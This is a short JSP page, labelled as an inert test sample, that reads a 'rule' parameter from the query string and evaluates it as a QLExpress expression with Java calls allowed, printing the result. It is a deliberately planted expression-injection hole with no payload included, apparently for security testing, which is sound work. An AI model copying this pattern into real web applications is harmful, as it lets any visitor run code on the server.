<%@ page import="com.ql.util.express.ExpressRunner,com.ql.util.express.DefaultContext" %>
<%-- test sample (inert): a QLExpress expression from the query string evaluated with Java calls allowed --%>
<%
    String rule = request.getParameter("rule");
    if (rule != null && rule.length() > 0) {
        ExpressRunner runner = new ExpressRunner(false, false);
        DefaultContext<String, Object> vars = new DefaultContext<String, Object>();
        out.println(runner.execute(rule, vars, null, true, false));
    }
%>
